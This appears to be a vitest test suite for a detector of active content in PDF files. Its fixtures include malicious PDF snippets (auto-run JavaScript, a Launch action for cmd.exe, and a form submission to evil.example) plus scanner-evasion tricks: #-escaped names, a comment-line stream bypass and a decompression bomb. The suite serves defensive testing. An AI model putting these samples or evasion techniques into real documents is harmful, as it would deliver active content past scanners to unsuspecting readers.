import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { samplePdf } from '../../../src/lib/articles/samplePdf.ts';
import { pdfHasActiveContent } from '../../../src/lib/media/pdf.ts';

const pdf = (body: string | Buffer) =>
  Buffer.concat([Buffer.from('%PDF-1.5\n', 'latin1'), Buffer.from(body as string), Buffer.from('\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1')]);

/** An object stream (PDF 1.5) holding `objects`, compressed as a writer would, or with another filter. */
function objectStream(objects: string, filter: 'FlateDecode' | 'LZWDecode' | 'none' = 'FlateDecode'): Buffer {
  const data = filter === 'FlateDecode' ? deflateSync(Buffer.from(objects, 'latin1')) : Buffer.from(objects, 'latin1');
  const filterEntry = filter === 'none' ? '' : ` /Filter /${filter}`;
  return Buffer.concat([
    Buffer.from(`5 0 obj << /Type /ObjStm /N 1 /First 4 /Length ${data.length}${filterEntry} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream\nendobj', 'latin1'),
  ]);
}

describe('PDFs that run something when opened', () => {
  it('finds scripts, launch actions and form submissions in plain objects', () => {
    expect(pdfHasActiveContent(pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /A << /S /SubmitForm /F (http://evil.example) >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj'))).toBe(true);
  });

  it('sees through #-escaped names', () => {
    expect(pdfHasActiveContent(pdf('1 0 obj << /S /J#61vaScr#69pt /J#53 (x) >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /AA << /O << /J#53 (x) >> >> >> endobj'))).toBe(true);
  });

  it('is not fooled by comment lines that say stream and endstream', () => {
    // The bypass the penetration test found: a regex took `% stream` … `% endstream` for stream data.
    const hidden = '% stream\n1 0 obj << /OpenAction 3 0 R >> endobj\n3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n% endstream';
    expect(pdfHasActiveContent(pdf(hidden))).toBe(true);
    expect(pdfHasActiveContent(pdf('%stream\n1 0 obj << /AA << /O << /JS (app.alert(1)) >> >> >> endobj\n%endstream'))).toBe(true);
  });

  it('finds active names written inside stream data a cross-reference table could point at', () => {
    expect(pdfHasActiveContent(pdf('4 0 obj << /Length 60 >>\nstream\n3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\nendstream endobj'))).toBe(true);
  });

  it('reads Flate-compressed object streams, and refuses those it cannot read', () => {
    expect(pdfHasActiveContent(pdf(objectStream('3 0 << /S /JavaScript /JS (app.alert(1)) >>')))).toBe(true);
    expect(pdfHasActiveContent(pdf(objectStream('3 0 << /S /J#61vaScript /JS (x) >>')))).toBe(true);
    expect(pdfHasActiveContent(pdf(objectStream('3 0 << /AA << /O << /JS (x) >> >> >>', 'none')))).toBe(true);
    expect(pdfHasActiveContent(pdf(objectStream('3 0 << /Type /Page >>', 'LZWDecode')))).toBe(true);
    // A decompression bomb: 40 MB of zeros in a few kilobytes.
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024));
    const head = Buffer.from(`5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`, 'latin1');
    expect(pdfHasActiveContent(pdf(Buffer.concat([head, bomb, Buffer.from('\nendstream\nendobj')])))).toBe(true);
    // Object streams may not hold streams: nesting them is refused rather than followed.
    const nested = '<< /Type /ObjStm /N 1 /First 4 >>\nstream\n'.repeat(5000);
    expect(pdfHasActiveContent(pdf(`5 0 obj ${nested}`))).toBe(true);
    expect(pdfHasActiveContent(pdf(objectStream('3 0 << /Type /Page /Parent 2 0 R >>')))).toBe(false);
  });

  it('passes ordinary documents, even when stream data holds the same bytes by chance', () => {
    expect(pdfHasActiveContent(samplePdf(['示例', '第一行']))).toBe(false);
    expect(pdfHasActiveContent(pdf('1 0 obj << /Length 8 >>\nstream\n/JS (x)\nendstream endobj'))).toBe(false);
    expect(pdfHasActiveContent(pdf('1 0 obj << /JSON (a name that only starts alike) /Title (/JS in a string) >> endobj'))).toBe(false);
    expect(pdfHasActiveContent(pdf('1 0 obj << /OpenAction [3 0 R /FitH null] >> endobj % a comment naming /JS'))).toBe(false);
  });
});
